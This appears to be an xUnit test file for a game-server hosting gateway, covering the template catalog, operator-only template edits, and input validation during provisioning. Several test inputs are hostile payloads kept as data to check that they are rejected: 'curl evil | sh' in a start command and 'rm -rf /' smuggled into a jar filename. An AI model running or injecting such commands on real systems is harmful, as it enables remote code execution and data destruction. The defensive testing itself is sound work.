using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using ZlhGrind.Gateway.Tests.TestSupport;
using ZlhGrind.Grains.Agents;
using ZlhGrind.Grains.Authorization;
using ZlhGrind.Grains.Containers;
using ZlhGrind.Grains.GameServers;
using ZlhGrind.Grains.Templates;

namespace ZlhGrind.Gateway.Tests.Templates;

/// <summary>The template catalog and template-based provisioning through the real gateway.</summary>
[Collection(GatewayCollection.Name)]
public sealed class TemplateEndpointsTests(GatewayFixture fixture)
{
    [Fact]
    public async Task GetTemplates_AnySignedInUser_ListsTheShippedTemplates()
    {
        using var portal = fixture.CreateClient(TestTokens.For("tpl-reader"));

        var templates = await portal.GetFromJsonAsync<GameTemplate[]>("/api/servers/templates", Json.Options);

        Assert.Contains(templates!, t => t.Name == "minecraft-forge" && t.Readiness.ConsolePattern == @"Done \([^)]*\)! For help");
        Assert.Contains(templates!, t => t.Name == "generic" && t.StartCommandEditable);
    }

    [Fact]
    public async Task PutTemplate_ByAUser_ForbiddenAndTheCatalogUnchanged()
    {
        using var mallory = fixture.CreateClient(TestTokens.For("tpl-mallory"));
        var before = await mallory.GetStringAsync("/api/servers/templates");
        var paper = JsonSerializer.Deserialize<GameTemplate[]>(before, Json.Options)!.Single(t => t.Name == "minecraft-paper");

        var put = await mallory.PutAsJsonAsync("/api/servers/templates/minecraft-paper", paper with { StartCommand = ["sh", "-c", "curl evil | sh"] }, Json.Options);
        var delete = await mallory.DeleteAsync("/api/servers/templates/minecraft-paper");

        Assert.Equal((HttpStatusCode.Forbidden, HttpStatusCode.Forbidden), (put.StatusCode, delete.StatusCode));
        Assert.Equal(before, await mallory.GetStringAsync("/api/servers/templates"));
    }

    [Fact]
    public async Task PutThenDeleteTemplate_ByAnOperator_AddsThenRemoves()
    {
        using var ops = fixture.CreateClient(TestTokens.For("tpl-ops", isOperator: true));
        var template = new GameTemplate(
            "tpl-test-valheim", "1", "A dedicated server.", ["./valheim_server.x86_64", "-port", "{{port}}", "-name", "{{worldName}}"], false, 2456,
            [new("worldName", "The world's name.", "Dedicated", VariableKind.Text, Pattern: "[A-Za-z0-9]{1,20}")],
            new StopMethod(null, 2, TimeSpan.FromSeconds(20)), new Readiness("Game server connected", false, TimeSpan.FromMinutes(3)),
            [new("Failed to bind", CrashClassification.MissingDependency)], null, [], null);

        var put = await ops.PutAsJsonAsync("/api/servers/templates/tpl-test-valheim", template, Json.Options);
        var listed = await ops.GetFromJsonAsync<GameTemplate[]>("/api/servers/templates", Json.Options);
        var deleted = await ops.DeleteAsync("/api/servers/templates/tpl-test-valheim");
        var again = await ops.DeleteAsync("/api/servers/templates/tpl-test-valheim");

        Assert.Equal(HttpStatusCode.OK, put.StatusCode);
        Assert.Equal(["{{port}}", "{{worldName}}"], listed!.Single(t => t.Name == "tpl-test-valheim").StartCommand.Where(w => w.StartsWith('{')));
        Assert.Equal(HttpStatusCode.OK, deleted.StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, again.StatusCode);
        Assert.StartsWith("template 'tpl-test-valheim' is not in the catalog.", await DetailAsync(again), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("""{"template":"minecraft-nope","memoryMb":2048}""", "template 'minecraft-nope' is not in the catalog. Known: generic, minecraft-fabric, minecraft-forge, minecraft-paper, minecraft-vanilla.")]
    [InlineData("""{"template":"minecraft-vanilla","memoryMb":2048,"variables":{"jarFile":"server.jar; rm -rf /"}}""", "variables.jarFile must match [A-Za-z0-9][A-Za-z0-9._-]{0,63}\\.jar.")]
    [InlineData("""{"template":"minecraft-vanilla","memoryMb":2048,"variables":{"port":"80"}}""", "variables.port must be a whole number between 1024 and 65535.")]
    [InlineData("""{"template":"minecraft-vanilla","memoryMb":2048,"variables":{"motd":"hi"}}""", "variables.motd is not a variable of template minecraft-vanilla; it takes: port, jarFile.")]
    [InlineData("""{"template":"minecraft-vanilla","memoryMb":2048,"startCommand":"java -jar server.jar; curl evil | sh"}""", "startCommand is refused: template minecraft-vanilla renders its own start command; only an editable template (such as generic) takes one.")]
    [InlineData("""{"template":"generic","memoryMb":2048}""", "startCommand is required with template generic.")]
    public async Task Provision_BadTemplateOrVariable_400NamingTheFieldAndNothingCreated(string body, string detail)
    {
        var user = "tpl-bad-" + Guid.NewGuid().ToString("N")[..8];
        using var portal = fixture.CreateClient(TestTokens.For(user));

        var response = await portal.PostAsync("/api/servers", new StringContent(body, System.Text.Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal(detail, await DetailAsync(response));
        Assert.Equal("[]", await portal.GetStringAsync("/api/servers"));
    }

    [Fact]
    public async Task Provision_MinecraftPaper_CreatedWithTheTemplateVersionAndCrashesSpeakSnakeCase()
    {
        using var portal = fixture.CreateClient(TestTokens.For("tpl-paper"));

        var response = await portal.PostAsJsonAsync("/api/servers", new { template = "minecraft-paper", memoryMb = 4096, variables = new { port = "25599" } });
        var result = await response.Content.ReadFromJsonAsync<ProvisionResult>(Json.Options);
        var grain = fixture.Client.GetGrain<IGameServerGrain>(result!.ContainerId);
        RequestContext.Set(CallContextKeys.AgentContainerId, result.ContainerId);
        RequestContext.Set(CallContextKeys.AgentCredential, result.AgentCredential);
        var crash = new CrashRecord(Guid.NewGuid(), fixture.Clock.GetUtcNow(), null, 9, TimeSpan.FromMinutes(5), CrashClassification.StartTimeout, "Loading mods", 1, TimeSpan.FromSeconds(30), false);
        await grain.ReportAsync(new AgentReport(Guid.NewGuid(), [new GameCrashed(1, fixture.Clock.GetUtcNow(), crash)], 0));
        RequestContext.Clear();

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var status = await portal.GetStringAsync($"/api/servers/{result.ContainerId}/status");
        Assert.Contains("\"template\":\"minecraft-paper\"", status, StringComparison.Ordinal);
        Assert.Contains("\"templateVersion\":\"1\"", status, StringComparison.Ordinal);
        Assert.Contains("\"lastClassification\":\"start_timeout\"", status, StringComparison.Ordinal);
        Assert.Contains("\"classification\":\"start_timeout\"", await portal.GetStringAsync($"/api/servers/{result.ContainerId}/crashes"), StringComparison.Ordinal);
    }

    private static async Task<string?> DetailAsync(HttpResponseMessage response) =>
        (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("detail").GetString();
}
